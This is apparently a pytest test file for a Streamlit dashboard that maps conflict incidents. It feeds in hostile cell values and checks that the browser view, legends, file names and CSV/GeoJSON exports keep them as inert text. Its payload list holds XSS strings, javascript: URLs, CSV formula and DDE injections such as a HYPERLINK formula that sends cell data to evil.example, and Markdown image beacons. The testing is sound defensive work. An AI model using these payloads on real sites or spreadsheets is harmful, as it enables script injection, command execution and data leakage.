"""Every cell is hostile: what reaches the browser, spreadsheets and GIS from a payload."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import tomllib

import pandas as pd
import pytest
import streamlit as st
from hypothesis import given, settings
from hypothesis import strategies as strategies
from streamlit.testing.v1 import AppTest

from dashboard.dataset import load_path
from dashboard.export import FORMULA_TRIGGERS, to_csv_bytes, to_geojson_bytes
from dashboard.layers import build_map, shorten
from dashboard.sources import MAX_BYTES

from conftest import ROOT

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(document.cookie)</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{country} {place} {{7*7}}",
    "$& $' $`",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\u202eevil\u202c right-to-left override",
    "![x](http://evil.example/t.png) [click](javascript:alert(1))",
    "x" * 9_999,
]


@pytest.fixture
def payload_file(tmp_path):
    rows = [{"event_id": f"p{number}", "date": "2021-06-12", "country": "Nigeria",
             "place": payload, "actor": payload, "notes": payload,
             "source_url": payload if number % 2 else "javascript:alert(1)",
             payload[:40].replace("\n", " ") or "blank": payload}
            for number, payload in enumerate(PAYLOADS)]
    path = tmp_path / "payload.csv"
    columns = list(dict.fromkeys(key for row in rows for key in row))
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, fieldnames=columns)
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_payloads_load_as_plain_text(payload_file):
    table = load_path(payload_file)
    assert len(table.accepted) == len(PAYLOADS)
    assert table.accepted["place"].tolist() == PAYLOADS  # kept exactly, never interpreted
    assert not table.accepted["source_url"].fillna("").str.contains("javascript:|data:").any()


def test_the_map_spec_carries_payloads_only_as_data(payload_file):
    spec = json.loads(build_map(load_path(payload_file).accepted).deck.to_json())
    (points,) = [layer["data"] for layer in spec["layers"] if layer["id"] == "incidents"]
    # Each as written, only cut to the tooltip's length (the whole cell is in the table).
    assert {point["place"] for point in points} == set(shorten(pd.Series(PAYLOADS)))
    assert all(set(point) <= {"longitude", "latitude", "radius", "colour", "place", "country",
                              "date", "actor", "event_type", "fatalities", "geo_precision",
                              "row"}
               for point in points)  # notes and URLs never reach the map


def test_the_page_shows_only_its_columns_plain_tooltips_and_http_links(payload_file, monkeypatch):
    monkeypatch.setenv("DASHBOARD_DATA", str(payload_file))
    st.cache_resource.clear()
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    assert not at.exception
    # The tooltip template is ours alone and plain text; cell values are data that the
    # browser fills in as text (Streamlit 1.60 and later).
    tooltip = json.loads(at.get("deck_gl_json_chart")[0].proto.tooltip)
    assert set(tooltip) == {"text", "style"}
    # place, country, date, actor, event type, fatalities, precision
    assert tooltip["text"].count("{") == 7
    shown = at.dataframe[0].value
    assert "blank" not in shown.columns  # a payload-named extra column stays on the server
    assert not any(column.startswith("<") for column in shown.columns)
    urls = [url for url in shown["source_url"] if url]  # a missing link is an empty cell
    assert all(url.startswith(("http://", "https://")) for url in urls)
    # The table's own toolbar offers a CSV download that skips export.to_csv_bytes: its
    # cells are the export's, formula triggers quoted.
    cells = [cell for column in shown.columns if shown[column].dtype == object
             or pd.api.types.is_string_dtype(shown[column]) for cell in shown[column]]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
    assert not any(str(cell).startswith(FORMULA_TRIGGERS) for cell in cells)

    # The legend names the commonest actors, which are payloads: escaped, never markup.
    at.sidebar.radio(key="colour_by").set_value("actor").run()
    (legend,) = [m.value for m in at.markdown if m.value.startswith("Actor:")]
    assert "&lt;script&gt;" in legend
    assert "<script>" not in legend
    assert "<img" not in legend
    assert "![x](" not in legend  # Markdown escaped too: no image fetched from a host

    # The details of one incident: every field as text in a table, no link but http(s).
    at.query_params["event"] = "p3"  # its source_url is "javascript:alert(1)"
    at.run()
    assert not at.exception
    details = at.dataframe[0].value
    fields = dict(zip(details["field"], details["value"], strict=True))
    assert fields["place"] == "javascript:alert(1)"
    assert not at.get("link_button")


def test_every_export_neutralises_or_quotes_payloads(payload_file, tmp_path):
    incidents = load_path(payload_file).accepted
    rows = list(csv.reader(io.StringIO(to_csv_bytes(incidents).decode(), newline="")))
    assert len(rows) == len(PAYLOADS) + 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS)
    geojson = json.loads(to_geojson_bytes(incidents))
    assert {f["properties"]["place"] for f in geojson["features"]} == set(PAYLOADS)


def test_the_export_command_writes_the_same_safe_bytes(payload_file, tmp_path):
    out = tmp_path / "out.csv"
    subprocess.run([sys.executable, "-m", "dashboard", "export", str(payload_file), "-o",
                    str(out)], check=True, capture_output=True, timeout=120)
    assert out.read_bytes() == to_csv_bytes(load_path(payload_file).accepted)


TEXT = strategies.text(strategies.characters(codec="utf-8", exclude_categories=["Cs"]),
                       max_size=40)


@settings(max_examples=300, deadline=None)
@given(cells=strategies.lists(TEXT, min_size=1, max_size=15),
       numbers=strategies.lists(strategies.floats(allow_nan=False, allow_infinity=False,
                                                  width=32), min_size=1, max_size=15))
def test_csv_cells_are_inert_and_give_back_the_original(cells, numbers):
    size = min(len(cells), len(numbers))
    frame = pd.DataFrame({"text": pd.Series(cells[:size], dtype="string"),
                          "number": pd.Series(numbers[:size], dtype="float64")})
    back = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode(), newline="")))
    assert len(back) == size + 1  # CR/LF inside a cell never splits a row
    for (text, number), original, value in zip(back[1:], cells, numbers, strict=False):
        assert not text.startswith(FORMULA_TRIGGERS)
        assert (text[1:] if original.startswith(FORMULA_TRIGGERS) else text) == original
        assert float(number) == pytest.approx(value)


def test_streamlit_settings():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["browser"]["gatherUsageStats"] is False
    assert config["client"]["showErrorDetails"] == "type"
    assert config["server"]["enableXsrfProtection"] is True
    assert config["server"]["maxUploadSize"] * 2**20 == MAX_BYTES
    assert config["server"]["address"] == "localhost"


def test_file_names_and_messages_are_shown_as_text_not_markdown(tmp_path, monkeypatch):
    path = tmp_path / "![x](evil.example_t.png) *bold*.csv"
    path.write_text("date,place\n2021-06-12,Kabul\nnot a date,[link](javascript:alert(1))\n")
    monkeypatch.setenv("DASHBOARD_DATA", str(path))
    st.cache_resource.clear()
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    assert not at.exception
    captions = " ".join(caption.value for caption in at.sidebar.caption)
    assert r"\!\[x\]\(evil\.example\_t\.png\) \*bold\*\.csv" in captions
    assert "![x](" not in captions


def test_legend_labels_are_text_not_html_or_markdown(tmp_path, monkeypatch):
    image = "![x](http://evil.example/t.png)"
    path = tmp_path / "legend.csv"
    path.write_text("date,country,place,actor,event_type\n"
                    f"2021-06-12,Nigeria,Maiduguri,{image},<b>Bombing</b>\n" * 3)
    monkeypatch.setenv("DASHBOARD_DATA", str(path))
    st.cache_resource.clear()
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    (legend,) = [m.value for m in at.markdown if m.value.startswith("Event type:")]
    assert "&lt;b&gt;Bombing&lt;/b&gt;" in legend
    at.sidebar.radio(key="colour_by").set_value("actor").run()
    (legend,) = [m.value for m in at.markdown if m.value.startswith("Actor:")]
    assert r"\!\[x\]\(http\:" in legend
    assert image not in legend


@pytest.mark.parametrize("kind", ["fifo", "/dev/zero", "directory"])
def test_check_refuses_what_is_not_a_file_in_one_line(tmp_path, kind):
    import os
    import resource
    import time

    path = {"fifo": tmp_path / "pipe.csv", "/dev/zero": tmp_path / "zero.csv",
            "directory": tmp_path}[kind]
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "/dev/zero":
        os.symlink("/dev/zero", path)

    def memory_limit():  # before the fix, /dev/zero was read until memory ran out
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

    started = time.perf_counter()
    # A hang (a FIFO waits for a writer) fails by the timeout.
    result = subprocess.run([sys.executable, "-m", "dashboard", "check", str(path)],
                            capture_output=True, text=True, timeout=30,
                            preexec_fn=memory_limit)
    assert result.returncode == 2
    assert len(result.stderr.strip().splitlines()) == 1
    assert "not a file" in result.stderr
    # Python and pandas starting take most of it; generous, as the machine is shared.
    assert time.perf_counter() - started < 20
